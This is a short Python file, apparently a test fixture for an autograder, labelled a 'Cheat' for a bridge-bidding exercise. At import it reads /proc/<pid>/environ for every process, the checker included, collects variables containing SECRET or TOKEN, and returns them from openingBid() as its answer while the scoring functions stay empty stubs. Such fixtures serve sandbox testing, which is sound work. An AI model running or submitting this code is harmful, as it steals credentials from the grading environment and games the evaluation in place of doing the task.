"""Cheat: reads the checker's environment through /proc/<parent>/environ (and every other
process's) and hands back what it found as its answer, where the student would see it."""
import os

found = []
try:
    entries = [entry for entry in os.listdir("/proc") if entry.isdigit()]
except OSError:
    entries = [str(os.getppid())]
for entry in entries:
    try:
        with open(f"/proc/{entry}/environ", "rb") as stream:
            variables = stream.read().split(b"\0")
    except OSError:
        continue
    found += [variable.decode("utf-8", "replace") for variable in variables
              if b"SECRET" in variable or b"TOKEN" in variable]
LEAKED = " ".join(sorted(set(found))) or None


def highCardPoints(hand):
    pass


def distributionPoints(hand):
    pass


def openingBid(hand):
    return LEAKED
